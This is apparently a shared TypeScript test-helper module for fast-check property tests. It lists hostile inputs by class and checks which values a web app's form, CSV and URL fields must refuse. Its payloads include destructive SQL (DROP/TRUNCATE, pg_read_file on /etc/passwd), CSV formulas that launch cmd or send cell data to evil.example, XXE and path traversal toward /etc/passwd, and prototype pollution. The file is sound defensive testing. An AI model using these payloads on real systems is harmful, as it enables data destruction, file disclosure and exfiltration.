// Hostile input for property-based tests (fast-check), shared by the API, admin, import and URL
// parameter tests. Values come in named classes (SQL, HTML/JS, CSV formula, path traversal, unicode
// oddities, control characters, oversized, numbers as strings, JSON as text, wrong types) so each
// property can say how many cases of each class it ran (see Tally).
import fc from 'fast-check';

export const SQL = [
  "' OR 1=1 --", "'; DROP TABLE plant; --", '1; SELECT pg_sleep(5)', "northvolt' UNION SELECT password FROM auth_account --",
  "\\'; DELETE FROM audit_log; --", "1' AND (SELECT count(*) FROM app_user) > 0 --", '$$; DROP TABLE plant; $$', "E'\\x27'",
  "%' OR name ILIKE '%", "admin'--", '"; TRUNCATE source CASCADE; --', '1)); DROP TABLE company;--', "' || pg_read_file('/etc/passwd') || '",
  '_%\\%_', "'::text::int", ':name $1 ?',
];
export const HTML = [
  '<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', 'javascript:alert(1)', `'"><svg/onload=alert(1)>`,
  '<iframe src="javascript:alert(1)"></iframe>', '{{constructor.constructor("alert(1)")()}}', '<a href="javascript:alert(1)">x</a>',
  '</textarea><script>alert(1)</script>', '&lt;script&gt;', '<!--', ']]><x>', '${alert(1)}', '<style>@import"//evil.example"</style>',
  'JaVaScRiPt:alert(1)', '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
];
export const CSV_FORMULA = [
  "=cmd|' /C calc'!A0", '+SUM(1+1)', '-2+3', '@SUM(A1)', '\t=1+1', '\r=1+1', '=HYPERLINK("https://evil.example/?x="&A1,"click")',
  "=2+5+cmd|' /C calc'!A0", '-1+1|cmd', '@cmd', '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")', '＝1+1', '"=1+1"',
  '=1+1\nsecond line', ';=1+1', ',=1+1',
];
export const PATH = [
  '../../../etc/passwd', '..%2F..%2Fetc%2Fpasswd', '/etc/passwd%00.zip', '....//....//etc/passwd', '..\\..\\windows\\win.ini',
  '%2e%2e%2f%2e%2e%2f', '..%c0%af..%c0%afetc/passwd', 'file:///etc/passwd', '2026-11-28.zip/../../x', '/dev/null', '\\\\evil\\share',
];
/** Unicode that PostgreSQL stores and a form may legitimately contain (no control characters, no lone surrogates). */
export const UNICODE = [
  '\u202eevil', 'a\u200bb', 'zero\u200d\u200cwidth', 'e\u0301\u0301\u0301', 'Z\u0364\u0354\u0367\u0311a\u0308\u0356', '😀', '👩‍👩‍👧‍👦', '🇫🇷',
  'Ω≈ç√', 'ﬁ', 'İ', 'ß', 'bom\ufeffinside', 'nb\u00a0sp', 'line\u2028sep\u2029', 'Ｆｕｌｌｗｉｄｔｈ', 'ℌ', '\ufffd', 'x\uffffy', '𝕏',
  'عربي', 'עברית', '中文', 'nel\u0085', 'Skellefteå', 'Göd', `a${'😀'.repeat(30)}`, `${'e\u0301'.repeat(30)}`,
];
/** Characters no form field may hold: C0 controls but tab, line feed and carriage return, and DEL. */
export const FORBIDDEN_CONTROL = [
  '\u0000', '\u0001', '\u0007', '\u0008', '\u000b', '\u000c', '\u000e', '\u001b', '\u001f', '\u007f',
];
/** What lib/validation refuses in any text field (PostgreSQL cannot store NUL; the rest is noise). */
const FORBIDDEN = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f]/;
export const CONTROL = [
  '\u0000', 'a\u0000b', '\u0001', 'x\u0007y', 'x\u001by', 'x\u007fy', 'x\u000by', 'x\u000cy', 'x\u0008y', '\r\nSet-Cookie: x=1',
];
export const LONE_SURROGATE = ['\ud800', 'a\udc00b', '\udbff', 'x\ud83dy', '\udfff\ud800'];
export const NUMERIC = [
  '1e309', '-1e309', '1e400', 'NaN', 'Infinity', '-Infinity', '-0', '-1', '0x10', '0b11', '0o7', '1_000', '1,5', '١٢٣', '１２',
  '9'.repeat(400), '2147483648', '-2147483649', '9007199254740993', '1e-400', '.', '+', '-', '1.2.3', '--1', '12abc', '4e3',
];
export const DATES = ['2026-02-30', '2026-13-01', '1999-12-31', '2061-01-01', '20260101', '2026-1-1', '2026-01-01T00:00:00Z', '0000-00-00', '+2026-01-01'];
export const JSONISH = [
  '[]', '{}', 'null', 'undefined', 'true', 'false', '[1,2]', '{"$gt":""}', '{"__proto__":{"admin":true}}',
  '{"a":{"b":{"c":[1,{"d":null}]}}}', '{"constructor":{"prototype":{"x":1}}}', '__proto__', 'constructor', 'toString',
];
export const BLANK = ['', ' ', '   ', '\t', '\n', '\r\n', '\u00a0', '\u3000', '\ufeff'];

/** The compact list: every class, nothing longer than 20,000 characters (fits in a URL or header). */
export const HOSTILE = [
  ...SQL, ...HTML, ...CSV_FORMULA, ...PATH, ...UNICODE, ...CONTROL, ...LONE_SURROGATE, ...NUMERIC, ...DATES, ...JSONISH, ...BLANK,
  'x'.repeat(20_000),
];

/** Any hostile or random string: the compact list, random strings, binary junk and numbers as text. */
export const hostile: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...HOSTILE), fc.string(), fc.string({ unit: 'binary', maxLength: 60 }), fc.integer().map(String), fc.double().map(String),
);

const OVERSIZED_LENGTHS = [10_000, 100_000, 1_000_000] as const;
const OVERSIZED_PIECES = ['x', '<script>alert(1)</script>', "'; DROP TABLE plant; --", '😀', '=cmd|', 'e\u0301'];
let oversizedCache: string[] | null = null;
/** Strings of 10k, 100k and 1M characters built from hostile pieces (built once). */
export function oversizedStrings(): string[] {
  oversizedCache ??= OVERSIZED_LENGTHS.flatMap((n) => OVERSIZED_PIECES.map((p) => p.repeat(Math.ceil(n / p.length)).slice(0, n)))
    // Never end inside a surrogate pair: the pieces are whole, the cut may not be.
    .map((s) => s.replace(/[\ud800-\udbff]$/, 'x'));
  return oversizedCache;
}

/**
 * Runs per property: the defaults keep the suite fast on a 2-core machine; HOSTILE_RUNS=10 (say)
 * multiplies every count for a deeper search.
 */
const RUN_SCALE = Number(process.env.HOSTILE_RUNS ?? 1) || 1;
export function scaled<T extends Record<string, number>>(runs: T): T {
  return Object.fromEntries(Object.entries(runs).map(([k, v]) => [k, Math.max(1, Math.round(v * RUN_SCALE))])) as T;
}

/** A value and the class of hostile input it belongs to. */
export interface Tagged<T> { cls: string; value: T }
export const tag = <T>(cls: string, arb: fc.Arbitrary<T>): fc.Arbitrary<Tagged<T>> => arb.map((value) => ({ cls, value }));
export const tagConst = <T>(cls: string, values: readonly T[]): fc.Arbitrary<Tagged<T>> => tag(cls, fc.constantFrom(...values));

/** Every class as tagged strings (for free-form parameters such as URL query values). */
export const taggedHostile: fc.Arbitrary<Tagged<string>> = fc.oneof(
  tagConst('sql', SQL), tagConst('html-js', HTML), tagConst('csv-formula', CSV_FORMULA), tagConst('path-traversal', PATH),
  tagConst('unicode', UNICODE), tagConst('control', CONTROL), tagConst('lone-surrogate', LONE_SURROGATE), tagConst('numeric-string', NUMERIC),
  tagConst('malformed-date', DATES), tagConst('json-text', JSONISH), tagConst('blank', BLANK),
  tag('oversized', fc.constantFrom(...OVERSIZED_LENGTHS).chain((n) => fc.constantFrom(...oversizedStrings().filter((s) => s.length === n)))),
  tag('random', fc.string()), tag('binary-junk', fc.string({ unit: 'binary', maxLength: 80 })),
);

/**
 * Text that is hostile but valid in a free-text field of at most `max` characters: injection
 * strings, unicode oddities and line breaks, no forbidden control characters, no lone surrogates,
 * not blank. Stored, it must come back exactly (trimmed).
 */
export function validHostileText(max: number): fc.Arbitrary<Tagged<string>> {
  const fit = (s: string) => [...s].length <= max && s.trim() !== '';
  const grapheme = fc.string({ unit: 'grapheme', minLength: 1, maxLength: Math.min(max, 40) });
  return fc.oneof(
    tagConst('sql', SQL.filter(fit)), tagConst('html-js', HTML.filter(fit)), tagConst('csv-formula', CSV_FORMULA.filter(fit)),
    tagConst('path-traversal', PATH.filter(fit)), tagConst('unicode', UNICODE.filter(fit)),
    tag('mixed', fc.array(fc.constantFrom(...SQL, ...HTML, ...CSV_FORMULA, ...UNICODE), { minLength: 2, maxLength: 4 }).map((a) => [...a.join(' ')].slice(0, max).join(''))),
    tag('random-unicode', grapheme),
    tag('at-limit', fc.constantFrom('x', '<', '😀', 'é', '中').map((p) => p.repeat(max))),
  ).filter((t) => fit(t.value) && t.value.isWellFormed() && !FORBIDDEN.test(t.value));
}

/** Values no JSON-ish form field should accept in place of a string (what a crafted server-action call can send). */
export const WRONG_TYPES: readonly unknown[] = [
  [], ['x'], [['x']], ['on'], [1], {}, { a: 1 }, { $gt: '' }, { toString: 'x' }, { a: { b: { c: [1, { d: null }] } } },
  true, false, Number.NaN, Number.POSITIVE_INFINITY, Number.NEGATIVE_INFINITY, 1n, new Date(Number.NaN), new Date(0),
  new Map([['a', 1]]), new Set([1]),
];
export const wrongType: fc.Arbitrary<Tagged<unknown>> = tag('wrong-type', fc.constantFrom(...WRONG_TYPES));

/**
 * Counts the cases a property ran, by class, and prints one line at the end, e.g.
 * "[hostile] admin › plant create refuses …: 60 cases — sql 7, html-js 5, …".
 */
export class Tally {
  private readonly counts = new Map<string, number>();
  runs = 0;
  constructor(readonly label: string, readonly numRuns: number) {}

  add(classes: Iterable<string>): void {
    this.runs += 1;
    for (const c of new Set(classes)) this.counts.set(c, (this.counts.get(c) ?? 0) + 1);
  }

  print(): void {
    const byClass = [...this.counts].sort((a, b) => b[1] - a[1]).map(([c, n]) => `${c} ${n}`).join(', ');
    console.log(`[hostile] ${this.label}: ${this.runs} cases (numRuns ${this.numRuns}) — ${byClass}`);
  }
}

// ---------------------------------------------------------------------------------------------
// Form and CSV fields by kind. `refused(kind)` gives strings the field must refuse — the oracle is
// written here independently of lib/validation, so a schema that lets one through fails the test.

export type FieldKind =
  | { kind: 'text'; max: number; required: boolean }
  | { kind: 'choice'; options: readonly string[]; required: boolean }
  | { kind: 'number'; min: number; max: number; int?: boolean; required: boolean }
  | { kind: 'id'; required: boolean }
  | { kind: 'date'; required: boolean }
  | { kind: 'checkbox' } | { kind: 'slug' } | { kind: 'ref'; required: boolean } | { kind: 'url'; required?: boolean } | { kind: 'currency' }
  | { kind: 'language' }
  | { kind: 'email' } | { kind: 'version' } | { kind: 'sourceId' } | { kind: 'userId' };

export const INT4_MAX = 2_147_483_647;
const NUMBER_TEXT = /^[-+]?(\d+(\.\d*)?|\.\d+)$/;
const isBlank = (s: string) => s.trim() === '';

function numberOk(s: string, min: number, max: number, int = false): boolean {
  const t = s.trim();
  if (!NUMBER_TEXT.test(t)) return false;
  const n = Number(t);
  return Number.isFinite(n) && n >= min && n <= max && (!int || Number.isInteger(n));
}

function dateOk(s: string): boolean {
  const t = s.trim();
  if (!/^\d{4}-\d{2}-\d{2}$/.test(t)) return false;
  const d = new Date(`${t}T00:00:00Z`);
  return !Number.isNaN(d.getTime()) && d.toISOString().startsWith(t) && t >= '2000-01-01' && t <= '2060-12-31';
}

/** Whether a string sent for a field of this kind may be accepted (ids: may exist; references are the database's call). */
export function mayAccept(f: FieldKind, raw: string): boolean {
  const s = raw.toWellFormed();
  const t = s.trim();
  const optionalBlank = isBlank(s);
  switch (f.kind) {
    // Lengths count characters (code points), as zod and PostgreSQL do: an emoji is one.
    case 'text': return optionalBlank ? !f.required : t.length <= 2 * f.max && [...t].length <= f.max && !FORBIDDEN.test(t);
    case 'choice': return optionalBlank ? !f.required : f.options.includes(t);
    case 'number': return optionalBlank ? !f.required : numberOk(t, f.min, f.max, f.int);
    case 'id': return optionalBlank ? !f.required : numberOk(t, 1, INT4_MAX, true);
    case 'version': return numberOk(t, 1, INT4_MAX, true);
    case 'date': return optionalBlank ? !f.required : dateOk(t);
    case 'checkbox': return ['', 'on', 'true', 'yes', '1', 'false', 'no', '0', 'off'].includes(t.toLowerCase());
    case 'slug': return optionalBlank || (t.length <= 120 && /^[a-z0-9]+(?:-[a-z0-9]+)*$/.test(t));
    case 'ref': return optionalBlank ? !f.required : /^[A-Za-z0-9][A-Za-z0-9/_.-]{0,63}$/.test(t);
    // A superset of what a URL parser takes: enough to say what must be refused.
    case 'url': return optionalBlank ? !f.required : (/^https?:\/\//i.test(t) && !/[\u0000-\u001f\u007f]/.test(t) && t.length <= 2000);
    case 'language': return optionalBlank || /^[a-z]{2}$/i.test(t);
    case 'currency': return optionalBlank || /^[A-Z]{3}$/.test(t.toUpperCase());
    case 'email': return /^[^\s@]+@[^\s@]+\.[^\s@]+$/.test(t) && t.length <= 254;
    case 'sourceId': return t === 'new' || numberOk(t, 1, INT4_MAX, true);
    case 'userId': return /^[A-Za-z0-9_-]{1,64}$/.test(t);
  }
}

/** Curated values a field of this kind must refuse, by class; filtered through mayAccept so none is accidentally valid. */
function curatedRefusals(f: FieldKind): Tagged<string>[] {
  const out: Tagged<string>[] = [];
  const add = (cls: string, values: string[]) => { for (const value of values) out.push({ cls, value }); };
  switch (f.kind) {
    case 'text':
      add('oversized', [...oversizedStrings().filter((s) => s.length > 2 * f.max), 'x'.repeat(f.max + 1), '<'.repeat(f.max + 1), '😀'.repeat(f.max + 1)]);
      add('control', FORBIDDEN_CONTROL.map((c) => `a${c}b`).concat(FORBIDDEN_CONTROL.map((c) => `<script>${c}</script>`), ["'; DROP\u0000 TABLE plant; --"]));
      break;
    case 'choice':
      add('enum-lookalike', f.options.flatMap((o) => [o.toUpperCase(), `${o}\u200b`, `\u202e${o}`, o.replace(/_/g, ' '), `${o}x`, `${o};`, `${o}'--`, `"${o}"`, `${o}\u0000`]));
      break;
    case 'number':
      add('numeric-string', [...NUMERIC, String(f.min - 1), String(f.max + 1), String(f.max * 10 + 1), `${f.min}.5e1`, '−1', '1 000', '١']);
      if (f.int) add('numeric-string', [`${Math.max(f.min, 0) + 0.5}`]);
      break;
    case 'id': case 'version':
      add('numeric-string', ['0', '-1', '1.5', '2147483648', '99999999999', '9'.repeat(400), '1e3', '0x10', '+0', '-0', 'NaN', 'Infinity', '1e309', '１', '١']);
      if (f.kind === 'version') add('stale-version', ['999999']);
      break;
    case 'sourceId':
      add('numeric-string', ['0', '-1', '1.5', '2147483648', '99999999999', '1e3', '0x10', 'NEW', 'new\u200b', 'true', '[1]']);
      add('unknown-reference', ['999999', String(INT4_MAX)]);
      break;
    case 'date':
      add('malformed-date', [...DATES, "2026-01-15'; DROP TABLE plant;--", '2026-01-15<script>', '2026-01-15\u0000', '२०२६-०१-१५', '2026-02-29']);
      break;
    case 'checkbox':
      add('enum-lookalike', ['ON', 'on\u200b', 'yes please', 'maybe', '2', '-1', 'tru', 'null']);
      break;
    case 'slug':
      add('slug-lookalike', ['Acme', 'a--b', '-a', 'a-', 'a_b', 'é', 'a b', 'a'.repeat(121), 'acme/../x', 'acme%2F', 'acme\u200b']);
      break;
    case 'ref':
      add('ref-lookalike', ['FR 01', '/x', '-x', 'FR-０1', 'A'.repeat(65), 'FR-01\u200b', 'FR-01;', 'FR-01<']);
      break;
    case 'url':
      add('bad-url', ['javascript:alert(1)', 'JaVaScRiPt:alert(1)', ' javascript:alert(1)', 'data:text/html,<script>alert(1)</script>',
        'vbscript:msgbox(1)', 'file:///etc/passwd', 'ftp://example.org/x', '//evil.example/x', 'http://', 'https://exa mple.org',
        'https:example.org', 'https://example.org/a\u0000b', 'https://exa\nmple.org', 'https://example.org/\r\nSet-Cookie: x=1',
        'https://example.org/\u0007', `https://example.org/${'a'.repeat(2000)}`]);
      break;
    case 'currency':
      add('enum-lookalike', ['EURO', 'E1R', '€', '<s>', 'EU', 'ЕUR', 'E U', 'EUR;', '12']);
      break;
    case 'language':
      add('enum-lookalike', ['eng', 'e', '12', 'en;', 'e n', 'ен', 'fr\u0000', "fr'--"]);
      break;
    case 'email':
      add('bad-email', ['a@', '@b.org', 'a@b', '"<script>"@x.org', 'a b@x.org', 'a\u0000@x.org', `${'a'.repeat(250)}@x.org`, 'a@b.org\r\nBcc: x@y.org']);
      break;
    case 'userId':
      add('unknown-reference', ['00000000-0000-0000-0000-000000000000', 'admin', '1']);
      add('control', ['a\u0000b', '\u0000']);
      add('oversized', ['x'.repeat(65), ...oversizedStrings().slice(0, 1)]);
      break;
  }
  const required = 'required' in f ? f.required : ['version', 'email', 'sourceId', 'userId'].includes(f.kind);
  if (required) add('blank', BLANK);
  return out.filter((t) => !mayAccept(f, t.value));
}

const refusedCache = new WeakMap<FieldKind, fc.Arbitrary<Tagged<string>>>();

/** Strings (as a form or CSV cell carries them: well-formed) that a field of this kind must refuse. */
export function refused(f: FieldKind): fc.Arbitrary<Tagged<string>> {
  const cached = refusedCache.get(f);
  if (cached) return cached;
  const curated = curatedRefusals(f);
  const generic = taggedHostile.map((t) => ({ cls: t.cls, value: t.value.toWellFormed() })).filter((t) => !mayAccept(f, t.value));
  const arbs: fc.Arbitrary<Tagged<string>>[] = [generic];
  if (curated.length) arbs.unshift(fc.constantFrom(...curated));
  const arb = fc.oneof(...arbs);
  refusedCache.set(f, arb);
  return arb;
}

/** Non-string values (and, for text, lone surrogates) a crafted call to the data layer may send; all must be refused. */
export function refusedTyped(f: FieldKind): fc.Arbitrary<Tagged<unknown>> {
  const types = WRONG_TYPES.filter((v) => !(f.kind === 'checkbox' && typeof v === 'boolean'));
  const arbs: fc.Arbitrary<Tagged<unknown>>[] = [tag('wrong-type', fc.constantFrom(...types))];
  if (f.kind === 'text' || f.kind === 'url') arbs.push(tagConst('lone-surrogate', LONE_SURROGATE.map((s) => (f.kind === 'url' ? `https://example.org/${s}` : `ok ${s}`))));
  const required = 'required' in f ? f.required : ['version', 'email', 'sourceId', 'userId'].includes(f.kind);
  if (required) arbs.push(tagConst('null', [null]));
  if (f.kind === 'number') {
    arbs.push(tagConst('out-of-range-number', [f.max + 1, f.min - 1, Number.MAX_VALUE, -Number.MAX_VALUE, ...(f.int ? [f.min + 0.5] : [])]));
  }
  if (f.kind === 'id' || f.kind === 'version') arbs.push(tagConst('out-of-range-number', [0, -1, 1.5, 2 ** 31, 2 ** 53 + 2, Number.MAX_VALUE]));
  return fc.oneof(...arbs);
}

// ---------------------------------------------------------------------------------------------
// URL search parameters as a Next.js page receives them.

const bend = (v: string) => fc.constantFrom(v, ` ${v} `, v.toUpperCase(), `${v}\u200b`, `${v}${v}`, `${v},${v}`, `${v}%20`);
const HOSTILE_KEYS = ['__proto__', 'constructor', 'toString', 'hasOwnProperty', '', ' ', 'q ', 'Q', 'year[]', 'region[0]', '<script>', "' OR 1=1 --"];

/** A value a URL can carry: well-formed (the URL parser turns broken UTF-8 into U+FFFD); near-valid ones bent from `examples`. */
function paramValue(name: string, examples: Record<string, readonly string[]>): fc.Arbitrary<Tagged<string>> {
  const valid = Object.hasOwn(examples, name) ? examples[name] : undefined;
  const hostileValue = taggedHostile.map((t) => ({ cls: t.cls, value: t.value.toWellFormed() }));
  if (!valid?.length) return hostileValue;
  const near = fc.constantFrom(...valid).chain(bend).map((value) => ({ cls: 'near-valid', value }));
  return fc.oneof({ weight: 2, arbitrary: near }, { weight: 3, arbitrary: hostileValue });
}

/**
 * Search params as a page gets them: a plain object of string or string[] (repeated keys), with
 * the page's own names and hostile ones ("__proto__", "constructor" …), single values, repeated
 * values, 60 values, or undefined.
 */
export function searchParamsArb(
  names: readonly string[], examples: Record<string, readonly string[]> = {}, { hostileKeys = true } = {},
): fc.Arbitrary<{ raw: Record<string, string | string[] | undefined>; classes: string[] }> {
  const keys = hostileKeys ? HOSTILE_KEYS : HOSTILE_KEYS.filter((k) => !(k in Object.prototype));
  const key = fc.oneof({ weight: 5, arbitrary: fc.constantFrom(...names) }, { weight: 1, arbitrary: fc.constantFrom(...keys) });
  const entry = key.chain((k) => fc.oneof(
    { weight: 3, arbitrary: paramValue(k, examples).map((v) => ({ k, v: v.value as string | string[] | undefined, classes: [v.cls] })) },
    { weight: 1, arbitrary: fc.array(paramValue(k, examples), { maxLength: 8 }).map((vs) => ({ k, v: vs.map((x) => x.value), classes: ['repeated', ...vs.map((x) => x.cls)] })) },
    {
      weight: 1,
      arbitrary: paramValue(k, examples).filter((v) => v.value.length < 1000)
        .map((v) => ({ k, v: Array.from({ length: 60 }, (_, i) => `${v.value}${i % 7 ? '' : i}`), classes: ['60-values', v.cls] })),
    },
    { weight: 1, arbitrary: fc.constant({ k, v: undefined, classes: ['undefined'] }) },
  ));
  return fc.array(entry, { maxLength: 8 }).map((entries) => ({
    // Object.fromEntries makes "__proto__" an own key, as an object built from a URL would.
    raw: Object.fromEntries(entries.map((e) => [e.k, e.v])),
    classes: entries.flatMap((e) => e.classes),
  }));
}
